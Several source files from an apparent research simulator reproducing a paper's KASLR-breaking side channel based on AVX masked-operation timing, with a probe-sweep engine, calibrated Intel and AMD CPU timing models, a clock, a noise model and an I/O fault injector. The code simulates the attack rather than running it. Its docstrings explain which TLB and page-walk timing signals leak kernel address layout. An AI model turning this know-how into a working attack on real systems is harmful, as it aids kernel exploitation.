    indices = tuple(int(x) for x in plan.idx_all[:, row])
    psc = walker.psc
    hit = psc.deepest_hit(indices)
    start = min(hit + 1, terminal) if hit is not None else 0
    extra = 0
    for level in range(start, terminal + 1):
        hot = lines.access(int(plan.node_ids[level, row]), indices[level])
        extra += timing.access_hot if hot else timing.access_cold
    for position in range(start, terminal):
        psc.fill(indices, position, int(plan.node_ids[position + 1, row]))
    walk1_extra[row] = extra


def _row_cycles(core, plan, walk1_extra, lo, hi, ops_per_va):
    """First/steady true cycles for plan rows [lo, hi), post-DVFS."""
    cpu = core.cpu
    timing = core.walker.timing
    window = slice(lo, hi)
    walk_base = plan.walk_base[window]
    assist = plan.assist[window]
    first_raw = plan.op_base + walk_base + walk1_extra[window] + assist
    if ops_per_va == 1:
        steady_raw = first_raw
    else:
        # fillable rows hit their own first-op fill in L1; the rest walk
        # again, resuming at the terminal level with its line hot
        steady_raw = np.where(
            plan.fill_mask[window],
            plan.op_base + cpu.tlb_hit_l1 + assist,
            plan.op_base + walk_base + timing.access_hot + assist,
        )
    scale = core.dvfs_scale
    if scale != 1.0:
        first = np.rint(first_raw * scale).astype(np.int64)
        steady = first if ops_per_va == 1 \
            else np.rint(steady_raw * scale).astype(np.int64)
        return first, steady
    return first_raw, steady_raw


def _run_window(core, plan, state, rounds, warm, seg_start, deadline):
    """Execute plan rows vectorized; stop at the chaos deadline.

    Returns ``(rows_done, walk1_extra)``.  Boundary simulations are only
    applied for rows that actually execute; with a deadline, the stop
    row is predicted exactly (integer cycle arithmetic) so the next
    ``chaos.poll()`` fires at the same clock value as the per-op path's.
    """
    n = plan.n
    timing = core.walker.timing
    walk1_extra = np.full(n, timing.access_hot, dtype=np.int64)
    ops_per_va = 2 * rounds if warm else rounds

    if deadline is None:
        for row in plan.boundary.tolist():
            _sim_boundary(core, plan, row, walk1_extra)
        first, steady = _row_cycles(core, plan, walk1_extra, 0, n, ops_per_va)
        state.first[seg_start:seg_start + n] = first
        state.steady[seg_start:seg_start + n] = steady
        return n, walk1_extra

    cpu = core.cpu
    per_va_overhead = rounds * (cpu.measurement_overhead + cpu.loop_overhead)
    base_clock = core.clock.cycles
    elapsed = 0
    done = n
    boundary = plan.boundary.tolist()
    for k, row in enumerate(boundary):
        if base_clock + elapsed >= deadline:
            done = row
            break
        nxt = boundary[k + 1] if k + 1 < len(boundary) else n
        _sim_boundary(core, plan, row, walk1_extra)
        first, steady = _row_cycles(core, plan, walk1_extra, row, nxt,
                                    ops_per_va)
        state.first[seg_start + row:seg_start + nxt] = first
        state.steady[seg_start + row:seg_start + nxt] = steady
        totals = np.cumsum(
            first + steady * (ops_per_va - 1) + per_va_overhead
        )
        if nxt - row > 1:
            # row ``row`` already cleared its poll; rows row+1.. poll at
            # base + elapsed + totals[j-1]
            tripped = np.flatnonzero(
                base_clock + elapsed + totals[:-1] >= deadline
            )
            if tripped.size:
                j = int(tripped[0])
                done = row + 1 + j
                break
        elapsed += int(totals[-1])
    return done, walk1_extra


def _apply_accounting(core, plan, state, walk1_extra, done, seg_start,
                      rounds, warm, op):
    """Apply clock / perf / TLB effects for executed plan rows [0, done)."""
    if not done:
        return
    ops_per_va = 2 * rounds if warm else rounds
    cpu = core.cpu
    per_va_overhead = rounds * (cpu.measurement_overhead + cpu.loop_overhead)
    first = state.first[seg_start:seg_start + done]
    steady = state.steady[seg_start:seg_start + done]
    core.clock.advance(
        int(first.sum()) + (ops_per_va - 1) * int(steady.sum())
        + done * per_va_overhead
    )

    perf = core.perf
    perf.increment(
        "MEM_INST_RETIRED.ALL_STORES" if op == "store"
        else "MEM_INST_RETIRED.ALL_LOADS",
        done * ops_per_va,
    )
    walks2 = plan.walks2[:done]
    second_walks = int(walks2.sum())
    walks_total = done + second_walks * (ops_per_va - 1)
    perf.increment("DTLB_LOAD_MISSES.WALK_COMPLETED", walks_total)
    core.walker.completed_walks += walks_total
    walk_base = plan.walk_base[:done]
    # walk durations are pre-DVFS, exactly as the walker counts them
    duration = int((walk_base + walk1_extra[:done]).sum())
    if ops_per_va > 1 and second_walks:
        duration += (ops_per_va - 1) * int(
            (walk_base[walks2] + core.walker.timing.access_hot).sum()
        )
    perf.increment("DTLB_LOAD_MISSES.WALK_DURATION", duration)
    assists = int(plan.has_assist[:done].sum())
    if assists:
        perf.increment("ASSISTS.ANY", assists * ops_per_va)

    # -- TLB counters: first op fully misses; the second op either hits
    # the row's own fill in L1 or fully misses again.  Skipped
    # repetitions never touch TLB counters (the engine replays perf
    # counters only), so the second-op effects land exactly once.
    tlb = core.tlb
    l1_arrays = list(tlb.l1.values())
    for array in l1_arrays:
        array.misses += done
    tlb.stlb.misses += 3 * done
    fill_mask = plan.fill_mask[:done]
    fills = int(fill_mask.sum())
    if ops_per_va > 1:
        refused = done - fills
        if refused:
            for array in l1_arrays:
                array.misses += refused
            tlb.stlb.misses += 3 * refused
        if fills:
            for code, size in ((0, PAGE_SIZE), (1, PAGE_SIZE_2M),
                               (2, PAGE_SIZE_1G)):
                count = int((fill_mask & (plan.size_code[:done] == code))
                            .sum())
                if count:
                    tlb.l1[size].hits += count

    if fills:
        # bucket replay: per (array, set), appending k entries to a
        # bucket of b with pop(0)-on-full keeps the last ``ways`` of
        # bucket+fills -- one shared TLBEntry per row, as TLB.fill makes
        asid = tlb.active_asid
        pending = {}
        vpns = plan.vpn[:done]
        pfns = plan.pfn[:done]
        sizes = plan.page_size[:done]
        for row in np.flatnonzero(fill_mask).tolist():
            size = int(sizes[row])
            vpn = int(vpns[row])
            entry = TLBEntry(vpn, int(pfns[row]), plan.flag_objs[row],
                             size, False, asid)
            l1 = tlb.l1[size]
            pending.setdefault(
                (id(l1), vpn % l1.sets), (l1, vpn % l1.sets, [])
            )[2].append(entry)
            if size != PAGE_SIZE_1G:
                stlb = tlb.stlb
                pending.setdefault(
                    (id(stlb), vpn % stlb.sets), (stlb, vpn % stlb.sets, [])
                )[2].append(entry)
        for array, set_index, entries in pending.values():
            combined = array._sets[set_index] + entries
            array._sets[set_index] = combined[-array.ways:]


def _delegate_reason(core):
    """Whole-sweep conditions the columnar model does not cover."""
    if core.obs.enabled:
        return "tracing"
    walker_obs = core.walker.obs
    if walker_obs is not None and walker_obs.enabled:
        return "walker-tracing"
    if core.avx.zero_mask_nop:
        return "zero-mask-nop"
    walker = core.walker
    if not walker.use_psc:
        return "no-psc"
    if any(c.capacity < 1 for c in walker.psc._caches.values()):
        return "psc-capacity"
    if walker.line_cache._lines.capacity < 1:
        return "line-capacity"
    return None


def columnar_sweep(core, vas, rounds, op="load", warm=True, reduce="mean"):
    """Columnar probe sweep: engine-equivalent, array-evolved.

    Drop-in replacement for :func:`repro.cpu.engine.probe_sweep` with
    identical semantics (measured matrix, clock, counters, MMU state,
    chaos schedule); windows the compile step cannot prove safe run
    through the engine's per-op row loop instead.
    """
    _engine.validate_sweep_args(op, reduce, rounds)
    vas = list(vas)
    n = len(vas)
    if n == 0:
        return np.empty((0,) if reduce else (0, rounds), dtype=np.float64)

    reason = _delegate_reason(core)
    if reason is None:
        try:
            vas_u64 = np.array(vas, dtype=np.uint64)
        except (OverflowError, TypeError, ValueError):
            reason = "unrepresentable-vas"
    if reason is not None:
        last_info.update(mode="delegated", reason=reason, columnar_rows=0,
                         fallback_rows=n, windows=0)
        return _engine.probe_sweep(core, vas, rounds, op=op, warm=warm,
                                   reduce=reduce)

    chaos = core.chaos if (core.chaos is not None and core.chaos.active) \
        else None
    state = _engine.SweepState(n, rounds, chaos)
    columnar_rows = 0
    fallback_rows = 0
    windows = 0
    start = 0
    while start < n:
        if chaos is not None:
            core.chaos_poll()
        end = min(n, start + WINDOW_ROWS)
        plan = _compile(core, vas_u64[start:end], op)
        if plan is None:
            _engine.sweep_rows(core, vas, rounds, op, warm, state, start, end)
            fallback_rows += end - start
            start = end
            continue
        windows += 1
        deadline = chaos.next_deadline() if chaos is not None else None
        done, walk1_extra = _run_window(core, plan, state, rounds, warm,
                                        start, deadline)
        _apply_accounting(core, plan, state, walk1_extra, done, start,
                          rounds, warm, op)
        if chaos is not None:
            state.spike_col[start] = core.pending_spike_cycles
            core.pending_spike_cycles = 0
            state.resolution[start:start + done] = core.timer_resolution
            for row in range(start, start + done):
                state.noise[row] = core.noise.sample_array(
                    core.rng, (rounds,)
                ).astype(np.int64)
        columnar_rows += done
        start += done
    last_info.update(mode="columnar", reason=None,
                     columnar_rows=columnar_rows,
                     fallback_rows=fallback_rows, windows=windows)
    return _engine.finalize_sweep(core, state, warm, reduce)
