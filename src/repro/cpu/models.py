"""Catalog of CPU timing models.

Each :class:`CPUModel` bundles the micro-architectural cost parameters of
one part evaluated in the paper.  The numeric values are calibrated so the
simulator reproduces every concrete cycle count the paper reports; the
calibration targets and the measured outcomes are tracked in
``EXPERIMENTS.md``.

The two *behavioural* switches that drive the paper's Intel/AMD split are:

* ``fills_tlb_for_supervisor_user_probe`` -- on Intel, a user-mode masked
  op on a kernel-mapped page leaves a TLB entry behind (the P2/P4 leak);
  on AMD Zen 3 it does not, so "accessing kernel addresses always triggers
  page table walks regardless of page mappings" and the attack must fall
  back to walk-level timing (P3).
* ``level_step_cycles`` -- per-level sequential walk cost that makes
  depth-4 (PT) walks distinguishable from depth-3 (PD) walks even when all
  paging-structure lines are hot, the signal behind the AMD 4 KiB-page
  KASLR break and the Intel P3 experiment.
"""

from repro.errors import ConfigError


class CPUModel:
    """Timing and behaviour parameters of one CPU part."""

    def __init__(
        self,
        name,
        vendor,
        microarchitecture,
        setting,
        launch,
        freq_ghz,
        load_base,
        store_base,
        tlb_hit_l1,
        tlb_hit_l2,
        assist_load,
        assist_store,
        assist_dirty,
        walk_base,
        walk_access_hot,
        walk_access_cold,
        level_step_cycles,
        noise_sigma,
        spike_prob,
        spike_cycles,
        measurement_overhead,
        loop_overhead,
        setup_cycles,
        rounds_default,
        fills_tlb_for_supervisor_user_probe,
        assist_store_fault=None,
        supports_avx2=True,
        supports_sgx=False,
        supports_tsx=False,
        prefetch_base=6,
        prefetch_drop_prob=0.35,
        tsx_abort_base=150,
        meltdown_vulnerable=False,
        tlb_l1_4k=(64, 4),
        tlb_l1_2m=(32, 4),
        tlb_l1_1g=(4, 4),
        stlb=(1536, 12),
        psc_pml4e=4,
        psc_pdpte=4,
        psc_pde=32,
        paging_line_capacity=1024,
    ):
        self.name = name
        self.vendor = vendor
        self.microarchitecture = microarchitecture
        self.setting = setting
        self.launch = launch
        self.freq_ghz = freq_ghz
        self.load_base = load_base
        self.store_base = store_base
        self.tlb_hit_l1 = tlb_hit_l1
        self.tlb_hit_l2 = tlb_hit_l2
        self.assist_load = assist_load
        self.assist_store = assist_store
        self.assist_dirty = assist_dirty
        # Store to a non-present page: the full fault-determination path.
        # Slightly cheaper than the A/D assist, which is what makes a
        # masked-store address-space scan faster than a masked-load one
        # (paper Section IV-F: 44 s vs 51 s of probing).
        if assist_store_fault is None:
            assist_store_fault = assist_dirty - 6
        self.assist_store_fault = assist_store_fault
        self.walk_base = walk_base
        self.walk_access_hot = walk_access_hot
        self.walk_access_cold = walk_access_cold
        self.level_step_cycles = level_step_cycles
        self.noise_sigma = noise_sigma
        self.spike_prob = spike_prob
        self.spike_cycles = spike_cycles
        self.measurement_overhead = measurement_overhead
        self.loop_overhead = loop_overhead
        self.setup_cycles = setup_cycles
        self.rounds_default = rounds_default
        self.fills_tlb_for_supervisor_user_probe = (
            fills_tlb_for_supervisor_user_probe
        )
        self.supports_avx2 = supports_avx2
        self.supports_sgx = supports_sgx
        # Intel TSX: present on the pre-2021 parts the prior-art DrK
        # attack needs, removed/disabled on everything recent -- the
        # practicality gap the paper's introduction leans on.
        self.supports_tsx = supports_tsx
        # prefetch-baseline parameters: dispatch cost and the probability
        # the hardware silently drops the hint (why Gruss-style attacks
        # need heavy noise filtering).
        self.prefetch_base = prefetch_base
        self.prefetch_drop_prob = prefetch_drop_prob
        self.tsx_abort_base = tsx_abort_base
        self.meltdown_vulnerable = meltdown_vulnerable
        self.tlb_l1_4k = tlb_l1_4k
        self.tlb_l1_2m = tlb_l1_2m
        self.tlb_l1_1g = tlb_l1_1g
        self.stlb = stlb
        self.psc_pml4e = psc_pml4e
        self.psc_pdpte = psc_pdpte
        self.psc_pde = psc_pde
        self.paging_line_capacity = paging_line_capacity

    @property
    def is_intel(self):
        return self.vendor == "intel"

    @property
    def is_amd(self):
        return self.vendor == "amd"

    def expected_user_mapped_load(self):
        """Mean cycles of a zero-mask load on USER-M (no assist, L1 TLB hit)."""
        return self.load_base + self.tlb_hit_l1

    def expected_kernel_mapped_load_tlb_hit(self):
        """Mean cycles of a zero-mask load on KERNEL-M with a warm TLB."""
        return self.load_base + self.tlb_hit_l1 + self.assist_load

    def __repr__(self):
        return "CPUModel({!r}, {} {})".format(
            self.name, self.vendor, self.microarchitecture
        )


def _intel(**kwargs):
    kwargs.setdefault("vendor", "intel")
    kwargs.setdefault("fills_tlb_for_supervisor_user_probe", True)
    return CPUModel(**kwargs)


def _amd(**kwargs):
    kwargs.setdefault("vendor", "amd")
    kwargs.setdefault("fills_tlb_for_supervisor_user_probe", False)
    return CPUModel(**kwargs)


#: Calibration notes (all cycle figures are paper-reported means):
#:   i7-1065G7 : USER-M load 13; KERNEL-M load 92 / store 76 (P6: store
#:               16-18 cycles faster); Table I base 0.26/0.57 ms.
#:   i9-9900   : P4 TLB hit 147 vs cold miss 381 (10 + 4*57 walk = 238;
#:               238 + 143 = 381).
#:   i5-12400F : Fig. 4 mapped 93 vs unmapped 107 (PSC-assisted warm walk
#:               10 + 8 + 4 level steps = 22... see EXPERIMENTS.md);
#:               Table I base 67 us / 0.28 ms.
CPU_CATALOG = {
    "i7-1065G7": _intel(
        name="Intel Core i7-1065G7",
        microarchitecture="Ice Lake",
        setting="Mobile",
        launch="Q3'19",
        freq_ghz=2.0,
        load_base=9,
        store_base=7,
        tlb_hit_l1=4,
        tlb_hit_l2=9,
        assist_load=79,
        assist_store=65,
        assist_dirty=81,
        assist_store_fault=51,
        walk_base=10,
        walk_access_hot=8,
        walk_access_cold=52,
        level_step_cycles=2,
        noise_sigma=2.4,
        spike_prob=0.0018,
        spike_cycles=420,
        measurement_overhead=60,
        loop_overhead=40,
        setup_cycles=340_000,
        rounds_default=4,
        supports_sgx=True,
    ),
    "i9-9900": _intel(
        name="Intel Core i9-9900",
        microarchitecture="Coffee Lake",
        setting="Desktop",
        launch="Q1'19",
        freq_ghz=4.4,
        supports_tsx=True,
        load_base=9,
        store_base=7,
        tlb_hit_l1=4,
        tlb_hit_l2=9,
        assist_load=134,
        assist_store=117,
        assist_dirty=136,
        walk_base=10,
        walk_access_hot=8,
        walk_access_cold=74,
        level_step_cycles=2,
        noise_sigma=2.2,
        spike_prob=0.0008,
        spike_cycles=450,
        measurement_overhead=60,
        loop_overhead=40,
        setup_cycles=400_000,
        rounds_default=2,
        supports_sgx=True,
    ),
    "i5-12400F": _intel(
        name="Intel Core i5-12400F",
        microarchitecture="Alder Lake",
        setting="Desktop",
        launch="Q1'22",
        freq_ghz=4.2,
        load_base=9,
        store_base=7,
        tlb_hit_l1=4,
        tlb_hit_l2=9,
        assist_load=80,
        assist_store=64,
        assist_dirty=82,
        walk_base=4,
        walk_access_hot=8,
        walk_access_cold=55,
        level_step_cycles=2,
        noise_sigma=2.0,
        spike_prob=0.002,
        spike_cycles=400,
        measurement_overhead=60,
        loop_overhead=40,
        setup_cycles=680_000,
        rounds_default=2,
    ),
    "i7-6600U": _intel(
        name="Intel Core i7-6600U",
        microarchitecture="Skylake",
        setting="Mobile",
        launch="Q3'15",
        freq_ghz=2.8,
        supports_tsx=True,
        load_base=10,
        store_base=8,
        tlb_hit_l1=4,
        tlb_hit_l2=9,
        assist_load=96,
        assist_store=80,
        assist_dirty=98,
        walk_base=10,
        walk_access_hot=9,
        walk_access_cold=60,
        level_step_cycles=2,
        noise_sigma=2.6,
        spike_prob=0.001,
        spike_cycles=480,
        measurement_overhead=64,
        loop_overhead=44,
        setup_cycles=420_000,
        rounds_default=3,
        supports_sgx=True,
        meltdown_vulnerable=True,
    ),
    "ryzen5-5600X": _amd(
        name="AMD Ryzen 5 5600X",
        microarchitecture="Zen 3",
        setting="Desktop",
        launch="Q2'20",
        freq_ghz=4.6,
        load_base=8,
        store_base=6,
        tlb_hit_l1=4,
        tlb_hit_l2=8,
        assist_load=70,
        assist_store=56,
        assist_dirty=105,
        walk_base=10,
        walk_access_hot=9,
        walk_access_cold=50,
        level_step_cycles=6,
        noise_sigma=3.0,
        spike_prob=0.0008,
        spike_cycles=420,
        measurement_overhead=56,
        loop_overhead=36,
        setup_cycles=4_500_000,
        rounds_default=11,
    ),
    "xeon-e5-2676": _intel(
        name="Intel Xeon E5-2676 v3",
        microarchitecture="Haswell",
        setting="Server (Amazon EC2)",
        launch="Q3'14",
        freq_ghz=2.4,
        supports_tsx=True,
        load_base=10,
        store_base=8,
        tlb_hit_l1=4,
        tlb_hit_l2=9,
        assist_load=98,
        assist_store=82,
        assist_dirty=100,
        walk_base=10,
        walk_access_hot=9,
        walk_access_cold=62,
        level_step_cycles=2,
        noise_sigma=3.4,
        spike_prob=0.002,
        spike_cycles=600,
        measurement_overhead=64,
        loop_overhead=20,
        setup_cycles=160_000,
        rounds_default=1,
        meltdown_vulnerable=True,
    ),
    "xeon-cascade-lake": _intel(
        name="Intel Xeon (Cascade Lake)",
        microarchitecture="Cascade Lake",
        setting="Server (Google GCE)",
        launch="Q2'19",
        freq_ghz=2.8,
        load_base=9,
        store_base=7,
        tlb_hit_l1=4,
        tlb_hit_l2=9,
        assist_load=92,
        assist_store=76,
        assist_dirty=94,
        walk_base=10,
        walk_access_hot=8,
        walk_access_cold=58,
        level_step_cycles=2,
        noise_sigma=3.0,
        spike_prob=0.0016,
        spike_cycles=550,
        measurement_overhead=60,
        loop_overhead=30,
        setup_cycles=260_000,
        rounds_default=2,
    ),
    "xeon-8171m": _intel(
        name="Intel Xeon Platinum 8171M",
        microarchitecture="Skylake-SP",
        setting="Server (Microsoft Azure)",
        launch="Q3'17",
        freq_ghz=2.1,
        supports_tsx=True,
        load_base=10,
        store_base=8,
        tlb_hit_l1=4,
        tlb_hit_l2=9,
        assist_load=100,
        assist_store=84,
        assist_dirty=102,
        walk_base=10,
        walk_access_hot=9,
        walk_access_cold=60,
        level_step_cycles=2,
        noise_sigma=3.6,
        spike_prob=0.002,
        spike_cycles=620,
        measurement_overhead=64,
        loop_overhead=30,
        setup_cycles=300_000,
        rounds_default=24,
        meltdown_vulnerable=True,
    ),
}

#: Extension parts beyond the paper's testbed (its "future work" asks for
#: evaluation on more CPUs, especially AMD).  Parameters are projected
#: from the measured generations: Zen 2/Zen+ share Zen 3's no-supervisor-
#: TLB-fill behaviour with slower walks; Tiger/Comet Lake interpolate
#: their Intel neighbours.
CPU_CATALOG.update({
    "ryzen7-3700X": _amd(
        name="AMD Ryzen 7 3700X",
        microarchitecture="Zen 2",
        setting="Desktop",
        launch="Q3'19",
        freq_ghz=4.1,
        load_base=9,
        store_base=7,
        tlb_hit_l1=4,
        tlb_hit_l2=8,
        assist_load=74,
        assist_store=60,
        assist_dirty=108,
        walk_base=11,
        walk_access_hot=10,
        walk_access_cold=54,
        level_step_cycles=6,
        noise_sigma=3.1,
        spike_prob=0.0009,
        spike_cycles=430,
        measurement_overhead=58,
        loop_overhead=36,
        setup_cycles=4_500_000,
        rounds_default=12,
    ),
    "ryzen5-2600": _amd(
        name="AMD Ryzen 5 2600",
        microarchitecture="Zen+",
        setting="Desktop",
        launch="Q2'18",
        freq_ghz=3.7,
        load_base=10,
        store_base=8,
        tlb_hit_l1=4,
        tlb_hit_l2=9,
        assist_load=80,
        assist_store=66,
        assist_dirty=114,
        walk_base=12,
        walk_access_hot=11,
        walk_access_cold=58,
        level_step_cycles=7,
        noise_sigma=3.3,
        spike_prob=0.001,
        spike_cycles=450,
        measurement_overhead=60,
        loop_overhead=38,
        setup_cycles=4_500_000,
        rounds_default=12,
    ),
    "i7-1185G7": _intel(
        name="Intel Core i7-1185G7",
        microarchitecture="Tiger Lake",
        setting="Mobile",
        launch="Q3'20",
        freq_ghz=2.8,
        load_base=9,
        store_base=7,
        tlb_hit_l1=4,
        tlb_hit_l2=9,
        assist_load=78,
        assist_store=63,
        assist_dirty=80,
        walk_base=8,
        walk_access_hot=8,
        walk_access_cold=53,
        level_step_cycles=2,
        noise_sigma=2.4,
        spike_prob=0.0014,
        spike_cycles=420,
        measurement_overhead=60,
        loop_overhead=40,
        setup_cycles=420_000,
        rounds_default=3,
        supports_sgx=True,
    ),
    "i5-10400": _intel(
        name="Intel Core i5-10400",
        microarchitecture="Comet Lake",
        setting="Desktop",
        launch="Q2'20",
        freq_ghz=4.0,
        load_base=9,
        store_base=7,
        tlb_hit_l1=4,
        tlb_hit_l2=9,
        assist_load=118,
        assist_store=101,
        assist_dirty=120,
        walk_base=10,
        walk_access_hot=8,
        walk_access_cold=56,
        level_step_cycles=2,
        noise_sigma=2.2,
        spike_prob=0.0008,
        spike_cycles=440,
        measurement_overhead=60,
        loop_overhead=40,
        setup_cycles=450_000,
        rounds_default=2,
    ),
})


def get_cpu_model(key):
    """Look a model up by catalog key or full marketing name."""
    if isinstance(key, CPUModel):
        return key
    if key in CPU_CATALOG:
        return CPU_CATALOG[key]
    for model in CPU_CATALOG.values():
        if model.name == key:
            return model
    raise ConfigError(
        "unknown CPU model {!r}; known: {}".format(
            key, ", ".join(sorted(CPU_CATALOG))
        )
    )
