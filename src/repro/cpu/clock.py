"""Simulated core clock.

All timing in the simulator is expressed in core cycles; the clock converts
to wall time through the CPU model's effective attack-loop frequency, which
is how the paper's millisecond runtimes are reproduced without real
hardware.
"""


class SimClock:
    """Monotonic cycle counter for one simulated core."""

    def __init__(self, freq_ghz=4.0):
        if freq_ghz <= 0:
            raise ValueError("frequency must be positive")
        self.freq_ghz = freq_ghz
        self._cycles = 0

    @property
    def cycles(self):
        return self._cycles

    def advance(self, cycles):
        """Advance the clock by a non-negative number of cycles."""
        if cycles < 0:
            raise ValueError("cannot advance clock by {} cycles".format(cycles))
        self._cycles += int(cycles)

    def cycles_to_seconds(self, cycles):
        return cycles / (self.freq_ghz * 1e9)

    def cycles_to_ms(self, cycles):
        return self.cycles_to_seconds(cycles) * 1e3

    def cycles_to_us(self, cycles):
        return self.cycles_to_seconds(cycles) * 1e6

    @property
    def seconds(self):
        return self.cycles_to_seconds(self._cycles)

    def elapsed_since(self, start_cycles):
        """Cycles elapsed since a previously sampled :attr:`cycles` value."""
        return self._cycles - start_cycles
