"""CPU-side substrate: clocks, timing models, and the AVX masked-op unit."""

from repro.cpu.avx import AVXUnit, MaskedOpResult, make_mask
from repro.cpu.clock import SimClock
from repro.cpu.core import Core
from repro.cpu.models import CPU_CATALOG, CPUModel, get_cpu_model
from repro.cpu.noise import NoiseModel
from repro.cpu.perfcounters import PerfCounters

__all__ = [
    "AVXUnit",
    "CPU_CATALOG",
    "CPUModel",
    "Core",
    "MaskedOpResult",
    "NoiseModel",
    "PerfCounters",
    "SimClock",
    "get_cpu_model",
    "make_mask",
]
