"""Measurement-noise model for timed instruction sequences.

Real RDTSC-delimited measurements jitter for two reasons the attacks must
survive: short-scale pipeline/frequency noise (modelled as a truncated
Gaussian) and rare large outliers from interrupts or SMIs (modelled as
additive spikes).  Everything is driven by an explicit
``numpy.random.Generator`` so runs are reproducible.
"""

import numpy as np


def sample_noise_array(rng, shape, sigma, spike_prob, spike_cycles):
    """The NoiseModel distribution, vectorized: max(0, N) + spikes.

    This is the one canonical vectorized noise kernel; the batched probe
    engine and the fastscan trial model both call it so their noise can
    never drift from each other (or from the scalar :meth:`NoiseModel.sample`
    distribution).  The RNG stream-consumption pattern is fixed -- one
    ``normal(shape)``, one ``random(shape)`` spike draw, and one
    ``random(shape)`` spike-magnitude draw issued only when any spike
    fired -- so fixed-seed results are stable across callers.
    """
    noise = rng.normal(0.0, sigma, size=shape)
    spikes = rng.random(shape) < spike_prob
    if spikes.any():
        noise = noise + spikes * spike_cycles * (0.5 + rng.random(shape))
    return np.maximum(0, np.rint(noise))


class NoiseModel:
    """Additive, non-negative timing noise."""

    def __init__(self, rng, sigma=2.0, spike_prob=0.001, spike_cycles=400):
        self.rng = rng
        self.sigma = sigma
        self.spike_prob = spike_prob
        self.spike_cycles = spike_cycles

    def sample(self):
        """Draw one noise value in whole cycles (always >= 0)."""
        noise = self.rng.normal(0.0, self.sigma)
        if self.spike_prob > 0 and self.rng.random() < self.spike_prob:
            noise += self.spike_cycles * (0.5 + self.rng.random())
        return max(0, int(round(noise)))

    def sample_many(self, n):
        """Vectorized draw of ``n`` noise values (whole cycles, >= 0)."""
        noise = self.rng.normal(0.0, self.sigma, size=n)
        if self.spike_prob > 0:
            spikes = self.rng.random(n) < self.spike_prob
            noise[spikes] += self.spike_cycles * (
                0.5 + self.rng.random(int(spikes.sum()))
            )
        return np.maximum(0, np.rint(noise).astype(np.int64))

    def sample_array(self, rng, shape):
        """Vectorized draw via the canonical kernel.

        ``rng`` is explicit (rather than ``self.rng``) because batched
        sweeps own their generator's stream layout; pass ``self.rng`` to
        share the model's stream.
        """
        return sample_noise_array(
            rng, shape, self.sigma, self.spike_prob, self.spike_cycles
        )

    def scaled(self, factor):
        """Return a copy with sigma scaled (e.g. noisy cloud neighbours)."""
        return NoiseModel(
            self.rng,
            sigma=self.sigma * factor,
            spike_prob=self.spike_prob,
            spike_cycles=self.spike_cycles,
        )
