"""Infrastructure fault injection: chaos for the durability stack.

* :mod:`repro.faults.profiles` -- the fault vocabulary (ENOSPC, EIO,
  torn writes, lying fsync, slow-disk stalls, heartbeat clock skew) and
  the named rate profiles;
* :mod:`repro.faults.injector` -- the seeded injector the journal, the
  atomic writers and the supervised pool route their I/O through.
"""

from repro.faults.injector import FaultInjected, FaultInjector  # noqa: F401
from repro.faults.profiles import (  # noqa: F401
    FAULT_KINDS,
    FAULT_PROFILES,
    FaultProfile,
    get_fault_profile,
)
