"""Seeded infrastructure fault injection for the durability stack.

A :class:`FaultInjector` sits between the campaign's durable writers
(:func:`repro.ioutil.append_durable`, the journal, the worker pool's
heartbeat watchdog) and the operating system, and makes the I/O lie the
way real infrastructure lies: appends fail with ``ENOSPC``/``EIO``,
land torn at a chosen byte offset, fsyncs report success without
persisting, the disk stalls, the heartbeat clock skews.

Two properties make the injector usable in determinism-sensitive
campaigns:

* **seeded draws** -- whether operation *n* of kind *k* fires is a pure
  function of ``(seed, k, n)`` (a SHA-256 draw against the profile
  rate), so a given injector misbehaves identically on every replay of
  the same operation sequence;
* **results are never touched** -- faults hit journals, fsyncs and
  heartbeats, not scenario execution, so a campaign that survives the
  faults produces the byte-identical result store of a fault-free run.

The injector also keeps a ``fired`` log and calls an optional
``on_fire`` hook, which the shard coordinator wires into the
observability layer (``fault`` events, per-kind counters).
"""

import errno as errno_mod
import hashlib
import os
import time

from repro.faults.profiles import get_fault_profile


class FaultInjected(OSError):
    """An OSError raised by the injector (telling tests apart from the
    real thing); ``kind`` names the fault that fired."""

    def __init__(self, kind, errno, message):
        self.kind = kind
        super().__init__(errno, message)


class FaultInjector:
    """Profile-driven, seeded fault injection for one fault domain.

    One injector guards one fault domain (one shard's journal + pool),
    so its draw counters and its sticky disk-full flag never leak
    between domains.  ``seed`` pins the draw sequence; ``on_fire`` (if
    given) is called as ``on_fire(kind, **detail)`` every time a fault
    fires.
    """

    def __init__(self, profile, seed=0, on_fire=None):
        self.profile = get_fault_profile(profile)
        self.seed = seed
        self.on_fire = on_fire
        #: chronological log of fired faults (dicts with a ``kind`` key)
        self.fired = []
        self._counters = {}
        self._disk_full = False
        # per-path durability tracking for the lying fsync: the byte
        # size up to which the file contents truly reached the platter
        self._durable = {}
        self._pending = {}

    # -- seeded draws ----------------------------------------------------------

    def _chance(self, kind):
        """The n-th uniform draw for ``kind``: pure in (seed, kind, n)."""
        n = self._counters.get(kind, 0)
        self._counters[kind] = n + 1
        digest = hashlib.sha256(
            "{}:{}:{}".format(self.seed, kind, n).encode("utf-8")
        ).digest()
        return int.from_bytes(digest[:8], "big") / float(1 << 64)

    def _fires(self, kind):
        rate = self.profile.rates.get(kind, 0.0)
        return rate > 0.0 and self._chance(kind) < rate

    def _fire(self, kind, **detail):
        record = {"kind": kind}
        record.update(detail)
        self.fired.append(record)
        if self.on_fire is not None:
            self.on_fire(kind, **detail)

    # -- hooks called by repro.ioutil ------------------------------------------

    def before_append(self, handle, data):
        """Gate one durable append; may raise, may write a torn prefix."""
        path = getattr(handle, "name", None)
        if isinstance(path, str):
            try:
                self._pending[path] = handle.tell()
            except OSError:
                pass
        if self._fires("stall"):
            self._fire("stall", path=path, seconds=self.profile.stall_s)
            time.sleep(self.profile.stall_s)
        if self._disk_full or self._fires("enospc"):
            if self.profile.enospc_sticky:
                self._disk_full = True
            self._fire("enospc", path=path)
            raise FaultInjected(
                "enospc", errno_mod.ENOSPC,
                "no space left on device (injected)",
            )
        if self._fires("eio"):
            self._fire("eio", path=path)
            raise FaultInjected(
                "eio", errno_mod.EIO, "I/O error (injected)",
            )
        if self._fires("torn"):
            keep = 1 + int(self._chance("torn-offset")
                           * max(1, len(data) - 1))
            keep = min(keep, max(1, len(data) - 1))
            handle.write(data[:keep])
            handle.flush()
            self._fire("torn", path=path, wrote=keep, of=len(data))
            raise FaultInjected(
                "torn", errno_mod.EIO,
                "torn write: {} of {} bytes reached the device "
                "(injected)".format(keep, len(data)),
            )
        return None

    def fsync(self, handle):
        """Fsync ``handle`` -- or lie about it, per the profile."""
        path = getattr(handle, "name", None)
        if self._fires("fsync_lie"):
            if isinstance(path, str) and path not in self._durable:
                pending = self._pending.get(path)
                if pending is not None:
                    self._durable[path] = pending
